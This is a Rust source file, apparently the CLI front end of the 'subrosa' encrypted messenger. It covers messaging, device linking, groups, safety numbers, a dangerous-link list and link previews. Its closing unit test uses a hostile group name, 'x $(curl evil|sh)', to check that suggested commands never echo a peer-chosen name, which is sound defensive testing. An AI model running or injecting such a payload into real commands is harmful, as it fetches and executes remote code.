fn print_imported(version: u64, entries: u64, replaced: Option<u64>) {
    let replaced = replaced.map(|v| format!(", replacing version {v}")).unwrap_or_default();
    out!("imported the dangerous-link list version {version} ({entries} entries{replaced})");
}

/// What `linklist status` prints: the list's version and size, if any.
fn print_link_list(list: Option<(u64, u64)>) {
    match list {
        Some((version, entries)) => out!("dangerous-link list version {version} ({entries} entries)"),
        None => out!("no dangerous-link list (import one with `subrosa linklist import FILE`)"),
    }
}

/// What `read` prints.
fn print_read(n: u64, receipts: bool) {
    let receipts = if receipts { "" } else { " (read receipts are off: nobody was told)" };
    out!("marked {n} message(s) read{receipts}");
}

/// What `settings read-receipts` prints.
fn print_read_receipts(on: bool) {
    out!("read receipts: {}", if on { "on" } else { "off" });
}

/// A queued message the server refused, told on stderr.
fn print_failed(f: &FailedSend) {
    match &f.message {
        Some(m) => eprintln!(
            "warning: your message {} to {} was refused by the server and not sent: {}",
            m.id,
            safe(&m.target),
            safe(&f.reason)
        ),
        None => eprintln!("warning: a queued message was refused by the server and not sent: {}", safe(&f.reason)),
    }
}

async fn run(cli: Cli, env_passphrase: Option<Zeroizing<String>>) -> Result<ExitCode> {
    // The user's own defaults (HOME/config.toml), below the flags.
    let config = match cli.command {
        Command::Demo | Command::Completions { .. } | Command::Man => Config::default(),
        _ => Config::load(&home(&cli.home)?)?,
    };
    let key_cache = config.key_cache(cli.key_cache)?;
    let mut command = cli.command;
    // A downloads directory in the file is as if given to every `receive`
    // (and to the TUI's `s`).
    if let Command::Receive { downloads: d @ None, .. } | Command::Tui { downloads: d @ None, .. } = &mut command {
        d.clone_from(&config.downloads);
    }
    match command {
        Command::Demo => demo::run().await.map(|_| ExitCode::SUCCESS),
        Command::Completions { shell } => {
            clap_complete::generate(shell, &mut Cli::command(), "subrosa", &mut std::io::stdout());
            Ok(ExitCode::SUCCESS)
        }
        Command::Man => {
            clap_mangen::Man::new(Cli::command()).render(&mut std::io::stdout())?;
            Ok(ExitCode::SUCCESS)
        }
        Command::Link { handle: Some(handle), server, accept: None, timeout, with_history } => {
            let home = home(&cli.home)?;
            let server = config.server(server, &home)?;
            let pass = passphrase(env_passphrase, true)?;
            let mut show = |code: &str| {
                out!("code: {code}");
                if std::io::stdout().is_terminal() {
                    if let Ok(qr) = qrcode::QrCode::new(code.as_bytes()) {
                        out!("{}", qr.render::<qrcode::render::unicode::Dense1x2>().quiet_zone(true).build());
                    }
                    out!("On a device of {handle}, run: subrosa link --accept {code}");
                }
                let _ = std::io::stdout().flush();
            };
            let me = Subrosa::link_new(
                &home,
                &pass,
                &handle,
                &server,
                with_history,
                Duration::from_secs(timeout),
                &mut show,
            )
            .await?;
            out!(
                "linked {} (device {}); run `subrosa receive` to join your conversations",
                me.handle(),
                me.identity().device_id()
            );
            Ok(ExitCode::SUCCESS)
        }
        Command::Audit { server, from } => {
            let server = config.server(server, &home(&cli.home)?)?;
            let report = subrosa_client::kt::audit(&server, from, &mut |_| {}).await?;
            let checked = report.to - report.from;
            out!(
                "audited epochs {} to {}: {checked} append-only proof(s) verified; the directory only grew",
                report.from,
                report.to
            );
            out!("epoch {} root {}", report.to, hex::encode(report.root));
            Ok(ExitCode::SUCCESS)
        }
        Command::Register { handle, server } => {
            let home = home(&cli.home)?;
            let server = config.server(server, &home)?;
            let pass = passphrase(env_passphrase, true)?;
            let me = Subrosa::register(&home, &pass, &handle, &server).await?;
            out!("registered {} (device {}) on {}", me.handle(), me.identity().device_id(), me.server());
            Ok(ExitCode::SUCCESS)
        }
        Command::Lock => {
            let home = home(&cli.home)?;
            if KeyCache::for_home(&home, key_cache).forget() {
                out!("locked: the store key is no longer cached; the next command needs the passphrase");
            } else {
                out!("nothing to lock: no store key of {} is cached in this session", home.display());
            }
            Ok(ExitCode::SUCCESS)
        }
        command => {
            let home = home(&cli.home)?;
            // A daemon on this home serves what it can: no passphrase, no
            // key derivation, no second connection (see `via`).
            // A call reads its signals as they arrive; a daemon on the same
            // home would take them first (and the caller would hear "no
            // answer" while the other side streams), so a call goes through
            // the daemon, and is refused when told not to.
            #[cfg(unix)]
            if matches!(command, Command::Call { .. } | Command::Answer { .. })
                && !config.use_daemon(cli.no_daemon)
                && via::connect(&home).await?.is_some()
            {
                return Err(anyhow!(
                    "a subrosa daemon runs on this home and would take the call's signals: call without --no-daemon, or stop it"
                ));
            }
            #[cfg(unix)]
            if config.use_daemon(cli.no_daemon) && (via::routes(&command) || matches!(command, Command::Tui { .. })) {
                if let Some(daemon) = via::connect(&home).await? {
                    if let Command::Tui { downloads, notifications, exit_after_first_frame } = &command {
                        let remote = tui::backend::Remote::new(&home, daemon).await?;
                        let options = tui::Options {
                            home: home.clone(),
                            downloads: absolute(downloads),
                            exit_after_first_frame: *exit_after_first_frame,
                            notifications: notifications.or(config.notifications).unwrap_or_default(),
                        };
                        return tui::run(tui::Backend::Daemon(remote), options).await;
                    }
                    return daemon.run(&command).await;
                }
            }
            // A second daemon is refused before it asks for anything.
            #[cfg(unix)]
            let lock = match &command {
                Command::Daemon { .. } => Some(daemon::lock_home(&home)?),
                _ => None,
            };
            let cache = KeyCache::for_home(&home, key_cache);
            // A passphrase given is always checked (against the cached key's
            // check value, else by deriving); none given, a cached key will do.
            let store = match env_passphrase {
                Some(pass) => cache.open_with_passphrase(&home, &pass)?,
                None => match cache.open(&home)? {
                    Some(store) => store,
                    None => cache.open_with_passphrase(&home, &passphrase(None, false)?)?,
                },
            };
            let client = Client::new(Subrosa::from_store(&home, store)?);
            let result = match command {
                #[cfg(unix)]
                Command::Daemon { socket, stdio, notifications } => {
                    let listen = if stdio {
                        daemon::Listen::Stdio
                    } else {
                        daemon::Listen::Socket(socket.unwrap_or_else(|| daemon::default_socket(&home)))
                    };
                    let lock = lock.ok_or_else(|| anyhow!("the daemon lock was not taken"))?;
                    let mut config = config.clone();
                    config.notifications = notifications.or(config.notifications);
                    daemon::run(&client, &home, &config, listen, lock).await
                }
                Command::Tui { downloads, notifications, exit_after_first_frame } => {
                    let options = tui::Options {
                        home: home.clone(),
                        downloads: absolute(&downloads),
                        exit_after_first_frame,
                        notifications: notifications.or(config.notifications).unwrap_or_default(),
                    };
                    tui::run(tui::Backend::Local(client.clone()), options).await
                }
                command => run_opened(&client, &home, &config, command).await,
            };
            let me = client.device();
            // Queued sends the server refused, and security alerts raised
            // along the way (directory forks, ghost devices), are shown
            // whatever the command was and however it ended.
            for f in me.take_failed_sends().unwrap_or_default() {
                print_failed(&f);
            }
            for a in me.take_alerts().unwrap_or_default() {
                eprintln!("warning: {}", safe(&a));
            }
            result
        }
    }
}

/// A directory given on the command line, made absolute (against this
/// process's working directory, before anything else uses it).
fn absolute(dir: &Option<PathBuf>) -> Option<PathBuf> {
    dir.as_ref().map(|d| std::path::absolute(d).unwrap_or_else(|_| d.clone()))
}

async fn run_opened(client: &Client, home: &std::path::Path, config: &Config, command: Command) -> Result<ExitCode> {
    let me = client.device();
    match command {
        Command::Send { target, text, attach, accept_key_change, reply_to, preview } => {
            let to = target::for_send(me, &target).await?;
            let caption = text.as_deref().unwrap_or_default();
            // The flag, else this device's setting, else the file; off by default.
            let previews = attach.is_empty()
                && reply_to.is_none()
                && (preview || me.previews()?.or(config.previews).unwrap_or(false));
            let checked = check_links(me, caption, previews, preview, config).await;
            for w in &checked.warnings {
                eprintln!("warning: {}", safe(w));
            }
            if attach.is_empty() {
                let text = caption;
                let m = match (reply_to, checked.preview) {
                    (Some(id), _) => me.reply(&to, text, message_id(&id)?, accept_key_change).await?,
                    (None, Some(p)) => me.send_with_preview(&to, text, p, accept_key_change).await?,
                    (None, None) => me.send_text_with(&to, text, accept_key_change).await?,
                };
                out!("sent {} to {}", m.id, safe(&m.target));
            } else if reply_to.is_some() {
                return Err(anyhow!("--reply-to does not go with --attach yet: send the files, then reply"));
            } else {
                let caption = text.unwrap_or_default();
                let mut bar: Option<(String, attach::Bar)> = None;
                let sent = me
                    .send_attachments(home, &to, &caption, &attach, accept_key_change, &mut |label, done, total| {
                        if bar.as_ref().is_none_or(|(l, _)| l != label) {
                            bar = Some((label.to_owned(), attach::Bar::new(label.to_owned())));
                        }
                        if let Some((_, b)) = bar.as_mut() {
                            b.set(done, total);
                        }
                    })
                    .await;
                drop(bar);
                if let Some(m) = sent? {
                    out!("sent {} to {} with {} file(s)", m.id, safe(&m.target), attach.len());
                }
            }
        }
        Command::React { target, message_id: id, emoji, remove } => {
            let to = target::for_send(me, &target).await?;
            me.react(&to, message_id(&id)?, &emoji, remove).await?;
            out!("{} {}", if remove { "took back your reaction to" } else { "reacted to" }, id);
        }
        Command::Edit { target, message_id: id, text } => {
            let to = target::for_send(me, &target).await?;
            me.edit(&to, message_id(&id)?, &text).await?;
            out!("edited {id}");
        }
        Command::Delete { target, message_id: id } => {
            let to = target::for_send(me, &target).await?;
            me.delete_for_everyone(&to, message_id(&id)?).await?;
            out!("deleted {id} for everyone");
        }
        Command::Disappearing { target, duration } => {
            let seconds = parse_disappearing(&duration)?;
            let conversation = target::conversation(me, &target)?;
            let changed = me.set_disappearing(&conversation, seconds).await?;
            print_disappearing(seconds, changed);
        }
        Command::Read { target } => {
            let conversation = match target::resolve(me, &target)? {
                target::Named::Conversation(row) => row.id,
                target::Named::Direct(peer) => me
                    .store()
                    .read(|tx| tx.direct_conversation(peer.as_str()))?
                    .ok_or_else(|| ClientError::UnknownTarget(target.clone()))?,
            };
            let n = me.read(&conversation).await?;
            print_read(n as u64, me.read_receipts()?);
        }
        Command::Settings(SettingsCommand::Previews { value }) => {
            if let Some(v) = value {
                me.set_previews(v == OnOff::On)?;
            }
            let on = me.previews()?.or(config.previews).unwrap_or(false);
            let via = match &config.preview_proxy {
                Some(p) if on => format!(" (fetched by this device through {})", safe(p)),
                _ if on => " (fetched by this device: the site sees its IP address)".to_string(),
                _ => String::new(),
            };
            out!("link previews: {}{via}", if on { "on" } else { "off" });
        }
        Command::Linklist(LinklistCommand::Import { file }) => {
            let bytes = read_list_file(&file)?;
            match me.import_link_list(&bytes)? {
                subrosa_client::linklist::Imported::New { version, entries, replaced } => {
                    print_imported(version, entries as u64, replaced);
                }
                subrosa_client::linklist::Imported::Same { version } => {
                    out!("the dangerous-link list version {version} is already imported");
                }
                _ => {}
            }
        }
        Command::Linklist(LinklistCommand::Status) => {
            print_link_list(me.link_list()?.map(|l| (l.version(), l.len() as u64)));
        }
        Command::Settings(SettingsCommand::ReadReceipts { value }) => {
            if let Some(v) = value {
                me.set_read_receipts(v == OnOff::On)?;
            }
            print_read_receipts(me.read_receipts()?);
        }
        Command::Receive { json, timeout, follow, no_ack, downloads } => {
            if !(0.0..=86_400.0 * 365.0).contains(&timeout) || timeout.is_nan() {
                return Err(anyhow!("--timeout takes a number of seconds from 0"));
            }
            let mut dropped = 0usize;
            // Shown once their attachments are downloaded (and saved).
            let mut messages = Vec::new();
            let mut on = |r: &Received| match r {
                Received::Message(m) => messages.push(m.clone()),
                Received::Alert(a) => eprintln!("warning: {}", safe(a)),
                Received::Failed(f) => print_failed(f),
                // The queued message was printed as queued when it was sent.
                Received::Sent(_) => {}
                Received::Dropped { from, reason } => {
                    dropped += 1;
                    print_dropped(from, reason);
                }
            };
            if follow {
                return follow_events(client, json).await;
            } else {
                me.receive(Duration::from_secs_f64(timeout), !no_ack, &mut on).await?;
            }
            let refused = attach::fetch_and_save(me, home, downloads.as_deref()).await;
            for m in &messages {
                print_message(me, m, json);
            }
            if refused? > 0 {
                return Ok(ExitCode::FAILURE);
            }
            if let Some(exit) = dropped_exit(dropped) {
                return Ok(exit);
            }
        }
        Command::History { target, json } => {
            let history = match target::resolve(me, &target)? {
                target::Named::Conversation(row) => me.history(&row.id)?,
                target::Named::Direct(peer) => me.history_with(&peer).map_err(|e| match e {
                    ClientError::UnknownTarget(_) => ClientError::UnknownTarget(target.clone()),
                    e => e,
                })?,
            };
            if !json {
                if let Some(m) = history.first().filter(|m| !m.group) {
                    let state = if me.is_verified(&m.target)? {
                        "verified".to_string()
                    } else {
                        format!("not verified: compare safety numbers with `subrosa verify {}`", m.target)
                    };
                    out!("-- conversation with {} ({state})", safe(&m.target));
                }
            }
            for m in history {
                print_message(me, &m, json);
            }
        }
        Command::Requests => {
            for row in me.requests()? {
                let kind = if row.kind == "group" { "group" } else { "direct" };
                out!("{}\t{kind}\t#{}", safe(&row.target()), row.id.to_hex());
            }
        }
        Command::Accept { target } => {
            let conversation = target::conversation(me, &target)?;
            print_accepted(&target, me.accept(&conversation)?);
        }
        Command::Block { handle } => {
            let left = me.block(&handle).await?;
            out!("blocked {} (left {} conversation(s))", safe(&handle), left.len());
        }
        Command::Unblock { handle } => print_unblocked(&handle, me.unblock(&handle)?),
        Command::Contacts => {
            for c in me.contacts()? {
                let state = if c.verified { "verified" } else { "unverified" };
                out!("{}\t{}\t{}", safe(&c.handle), state, &c.identity_key[..16.min(c.identity_key.len())]);
            }
        }
        Command::Group(g) => match g {
            GroupCommand::Create { name, handles } => {
                let g = me.create_group(&name, &handles).await?;
                out!("created {} with {}", safe(&g.name), safe(&g.members.join(", ")));
            }
            GroupCommand::Add { name, handle } => {
                match me.group_add(&target::group(me, &name).await?, &handle).await? {
                    None => out!("added {} to {}", safe(&handle), safe(&name)),
                    Some(g) => out!(
                        "{} was a member of {} before, so it continues in a new conversation #{} with {}; \
                     the old one is retired",
                        safe(&handle),
                        safe(&name),
                        g.id,
                        safe(&g.members.join(", "))
                    ),
                }
            }
            GroupCommand::Remove { name, handle } => {
                me.group_remove(&target::group(me, &name).await?, &handle).await?;
                out!("removed {} from {}", safe(&handle), safe(&name));
            }
            GroupCommand::Leave { name } => {
                me.group_leave(&target::group(me, &name).await?).await?;
                out!("left {}", safe(&name));
            }
            GroupCommand::Rename { name, new } => {
                me.group_rename(&target::group(me, &name).await?, &new).await?;
                out!("renamed {} to {}", safe(&name), safe(&new));
            }
            GroupCommand::Recreate { name } => {
                let g = me.group_recreate(&target::group(me, &name).await?).await?;
                out!(
                    "re-created {} as a new conversation #{} with {}; the stuck one is retired",
                    safe(&g.name),
                    g.id,
                    safe(&g.members.join(", "))
                );
            }
        },
        Command::Groups => {
            for g in me.groups()? {
                let state = if g.active { g.members.join(", ") } else { "(left)".to_string() };
                out!("{}\t{}\t{}", safe(&g.name), safe(&state), g.id);
            }
        }
        Command::Alerts { action, export, json } => return alerts(me, action, export, json),
        Command::Call { target, media, timeout } => return call::call(client, &target, &media, timeout).await,
        Command::Answer { media, timeout } => return call::answer(client, &media, timeout).await,
        Command::Members { target, json } => {
            let id = target::conversation(me, &target)?;
            let stale = me.stale_members(&id)?;
            let suite = me.conversation_suite(&id)?;
            if json {
                let mine = me.identity().address();
                let members: Vec<serde_json::Value> = me
                    .members(&id)?
                    .into_iter()
                    .map(|m| {
                        let stale_days = stale.iter().find(|(a, _)| *a == m.address).map(|(_, d)| *d);
                        daemon::member_value(
                            m.address.handle.as_str(),
                            &m.address.device.to_hex(),
                            &subrosa_core::safety::key_fingerprint(&m.device_key),
                            m.address == mine,
                            stale_days,
                            suite,
                        )
                    })
                    .collect();
                out!("{}", daemon::members_json(suite, members));
            } else {
                for m in me.members(&id)? {
                    let mut notes = Vec::new();
                    if m.address == me.identity().address() {
                        notes.push("(this device)".to_string());
                    }
                    if let Some((_, days)) = stale.iter().find(|(a, _)| *a == m.address) {
                        notes.push(format!("(stale: no key update for {days} days)"));
                    }
                    let notes = if notes.is_empty() { String::new() } else { format!("\t{}", notes.join(" ")) };
                    out!(
                        "{}\t{}\t{}{notes}",
                        m.address.handle,
                        m.address.device,
                        subrosa_core::safety::key_fingerprint(&m.device_key)
                    );
                }
                out!("ciphersuite\t{}\t{}", u16::from(suite), subrosa_core::suite_name(suite));
            }
        }
        Command::AcceptDevice { target, device } => {
            let handle = me.accept_device(&target::conversation(me, &target)?, &device)?;
            out!("accepted {handle}'s device {device} in {target}");
        }
        Command::Link { accept: Some(code), timeout, .. } => {
            let done = me.link_accept(&code, Duration::from_secs(timeout)).await?;
            out!("linked device {}; added it to {} conversations", done.device, done.conversations);
        }
        Command::Link { .. } => {
            return Err(anyhow!(
                "give HANDLE (and --server URL unless config.toml names one) on a new device, or --accept CODE"
            ))
        }
        Command::SafetyNumber { handle } => {
            let n = me.safety_number(&handle).await?;
            print_safety_number(&n);
        }
        Command::Account(AccountCommand::Delete { yes }) => {
            confirm_deletion(me.handle().as_str(), yes)?;
            let left = me.delete_account().await?;
            print_deleted(me.handle().as_str(), left as u64, home);
        }
        Command::Verify { handle, yes } => {
            let n = me.safety_number(&handle).await?;
            print_safety_number(&n);
            confirm_verified(&handle, yes)?;
            me.verify_safety_number(&handle, &n).await?;
            out!("{handle} is verified");
        }
        Command::Devices { action: None } => {
            for d in me.devices().await? {
                let mut notes = Vec::new();
                if d.this_device {
                    notes.push("this device");
                }
                if !d.certified {
                    notes.push("NOT CERTIFIED by your identity key");
                }
                out!("{}\t{}\t{}", d.id, subrosa_core::safety::key_fingerprint(&d.key), notes.join(", "));
            }
        }
        Command::Devices { action: Some(DevicesCommand::Rekey) } => {
            let done = me.rekey().await?;
            out!("replaced this device's keys in {} conversation(s) and its key packages", done.conversations);
            if done.pending > 0 {
                return Err(ClientError::Pending(format!(
                    "the key update of {} conversation(s) is not yet on the server; the next subrosa command sends it",
                    done.pending
                ))
                .into());
            }
        }
        Command::Devices { action: Some(DevicesCommand::Remove { id }) } => {
            let n = me.remove_device(&id).await?;
            out!("removed device {id} (from {n} conversations)");
        }
        Command::Register { .. }
        | Command::Demo
        | Command::Completions { .. }
        | Command::Man
        | Command::Audit { .. }
        | Command::Lock => {
            unreachable!("handled above")
        }
        #[cfg(unix)]
        Command::Daemon { .. } => unreachable!("handled above"),
        Command::Tui { .. } => unreachable!("handled above"),
    }
    Ok(ExitCode::SUCCESS)
}

/// What a text's links make of its send, wherever it is sent from (this
/// process, or the daemon for any front end): the warnings to show (links
/// on the dangerous-link list, and why no preview was made), and the
/// preview to send, if any.
pub(crate) struct LinkCheck {
    /// One line each, without the `warning: ` prefix (not yet made safe).
    pub warnings: Vec<String>,
    /// The preview of the first link, when asked and made.
    pub preview: Option<subrosa_core::preview::LinkPreview>,
}

/// Checks `text`'s links against the dangerous-link list and, with
/// `previews` (the flag, else the device's setting, else the file), makes
/// the preview of its first link. A link on the list is never fetched.
/// `asked`: the user gave `--preview` (a text without a link is then worth
/// a word too).
pub(crate) async fn check_links(me: &Subrosa, text: &str, previews: bool, asked: bool, config: &Config) -> LinkCheck {
    let dangerous = me.dangerous_links(text).unwrap_or_default();
    let mut warnings: Vec<String> =
        dangerous.iter().map(|link| format!("{link} is on your dangerous-link list")).collect();
    let preview = if previews { make_preview(text, &dangerous, config, asked, &mut warnings).await } else { None };
    LinkCheck { warnings, preview }
}

/// The preview of `text`'s first link, made by this device; `None` (and
/// a warning saying why) when none could be made. A link on the
/// dangerous-link list is never fetched.
async fn make_preview(
    text: &str,
    dangerous: &[String],
    config: &Config,
    asked: bool,
    warnings: &mut Vec<String>,
) -> Option<subrosa_core::preview::LinkPreview> {
    use subrosa_client::preview::{self, PreviewError, PreviewPolicy};
    let policy = PreviewPolicy::new(config.preview_proxy.clone());
    let Some(link) = preview::first_link(text, &policy) else {
        if asked {
            warnings.push(format!("sending without a preview: {}", PreviewError::NoLink));
        }
        return None;
    };
    if dangerous.iter().any(|d| d == link) {
        warnings.push(
            "sending without a preview: the link is on your dangerous-link list, so it was not fetched".to_string(),
        );
        return None;
    }
    match preview::make(text, &policy).await {
        Ok(p) => Some(p),
        Err(e) => {
            warnings.push(format!("sending without a preview: {e}"));
            None
        }
    }
}

/// Reads a list file, at most as large as a list can be.
fn read_list_file(path: &std::path::Path) -> Result<Vec<u8>> {
    use std::io::Read as _;
    let f = std::fs::File::open(path).map_err(|e| anyhow!("cannot read {}: {e}", path.display()))?;
    let mut bytes = Vec::new();
    let limit = subrosa_core::linklist::MAX_FILE_BYTES as u64 + 1;
    f.take(limit).read_to_end(&mut bytes).map_err(|e| anyhow!("cannot read {}: {e}", path.display()))?;
    if bytes.len() as u64 == limit {
        return Err(anyhow!(
            "refused: {} is larger than any dangerous-link list; the list you had is kept",
            path.display()
        ));
    }
    Ok(bytes)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::expect_used)]

    use subrosa_client::SystemEvent;

    use super::*;

    /// A group's name is another member's choice: the command the line
    /// suggests names the conversation by its id, never by that name.
    #[test]
    fn advice_names_the_conversation_by_id_not_by_a_hostile_name() {
        let hostile = "x $(curl evil|sh)";
        let m = StoredMessage {
            conversation: "ab".repeat(16),
            target: hostile.into(),
            system: true,
            text: "warning: …".into(),
            event: Some(SystemEvent::DeviceNotConfirmed {
                by: "mallory/0102030405060708".into(),
                member: "carol".into(),
                device: "0a0b0c0d0e0f1011".into(),
                target: hostile.into(),
                why: "not listed".into(),
            }),
            ..StoredMessage::default()
        };
        let shown = with_advice(&m);
        assert!(shown.text.contains(&format!("subrosa accept-device #{} 0a0b0c0d0e0f1011", "ab".repeat(16))));
        assert!(!shown.text.contains("$("), "{}", shown.text);
        let verify = StoredMessage {
            event: Some(SystemEvent::KeyChanged { member: "bob".into() }),
            text: "warning: bob's identity key changed; compare safety numbers again".into(),
            ..m
        };
        assert!(with_advice(&verify).text.ends_with("again (subrosa verify bob)"));
    }
}
